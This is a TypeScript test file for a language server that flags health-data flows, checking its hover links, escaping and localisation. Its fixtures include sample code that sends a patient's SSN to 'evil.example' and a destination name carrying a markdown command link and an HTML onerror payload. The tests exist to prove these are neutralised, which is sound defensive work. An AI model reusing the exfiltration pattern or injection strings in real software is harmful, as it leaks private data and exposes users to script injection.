// What the server says in a hover: links where the client runs them, names that cannot pose as links, and the user's language.

import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import type { CodeAction, Hover } from "vscode-languageserver-protocol";
import { LspClient } from "./support/lspClient";

const root = path.resolve(__dirname, "../..");
const server = path.join(root, "dist/server.js");
const EVIL = "[click](command:workbench.action.quit) <img src=x onerror=alert(1)>";

const CODE = `interface Patient { /** @phi direct */ ssn: string; }
export function send(patient: Patient) { return fetch("https://evil.example/x", { method: "POST", body: patient.ssn }); }
`;
const POLICY = JSON.stringify({ version: 1, destinations: [{ id: "evil", name: EVIL, match: { hosts: ["evil.example"] } }] });

describe("texts of the server", function () {
  this.timeout(60_000);
  const clients: LspClient[] = [];
  const start = async (initializationOptions: object): Promise<LspClient> => {
    const lsp = await LspClient.start({ server, files: { "a.ts": CODE, "phi-lens.json": POLICY }, initializationOptions });
    clients.push(lsp);
    await lsp.open("a.ts", CODE);
    await lsp.settled();
    return lsp;
  };
  after(async () => {
    for (const lsp of clients) await lsp.stop();
  });
  const hover = async (lsp: LspClient): Promise<string> => {
    const character = (CODE.split("\n")[1] ?? "").indexOf("patient.ssn") + 9;
    const found = await lsp.request<Hover | null>("textDocument/hover", { textDocument: { uri: lsp.uri("a.ts") }, position: { line: 1, character } });
    return (found?.contents as { value: string } | undefined)?.value ?? "";
  };

  it("a hover leads to the flow and to the rule's page, where the client runs commands", async () => {
    const text = await hover(await start({ commands: true }));
    assert.match(text, /\[Show Flow\]\(command:phiLens\.showFlow\?%5B%7B[^) ]+\) · \[Explain phi-to-unapproved-destination\]\(command:phiLens\.explainRule\?[^) ]+\)$/);
  });

  it("a hover has no commands elsewhere, and a name is never a link", async () => {
    const text = await hover(await start({}));
    assert.match(text, /Flows to: \\\[click\\\]/);
    assert.ok(!/\]\(command:/.test(text), text);
    assert.ok(!/(?<!\\)<img/.test(text), text);
  });

  it("speaks the language of the bundle that the client names", async () => {
    const folder = mkdtempSync(path.join(tmpdir(), "phi-lens-l10n-"));
    const english = JSON.parse(readFileSync(path.join(root, "l10n/bundle.l10n.json"), "utf8")) as Record<string, string>;
    const file = path.join(folder, "bundle.l10n.qps-ploc.json");
    writeFileSync(file, JSON.stringify(Object.fromEntries(Object.keys(english).map((text) => [text, `«${text}»`]))));
    const lsp = await start({ commands: true, l10n: pathToFileURL(file).href });
    const lines = (await hover(lsp)).split("\n").filter((line) => line.trim());
    assert.equal(lines.length, 5);
    for (const line of lines) assert.match(line, /«.+»/);
    const diagnostic = lsp.diagnostics("a.ts").find(({ code }) => code === "phi-to-unapproved-destination");
    assert.ok(diagnostic);
    const actions = await lsp.request<CodeAction[]>("textDocument/codeAction", { textDocument: { uri: lsp.uri("a.ts") }, range: diagnostic.range, context: { diagnostics: [] } });
    for (const title of ["«Suppress with a reason…»", "«Show Flow»", "«Explain phi-to-unapproved-destination»"]) assert.ok(actions.some((action) => action.title === title), title);
    rmSync(folder, { recursive: true });
  });
});
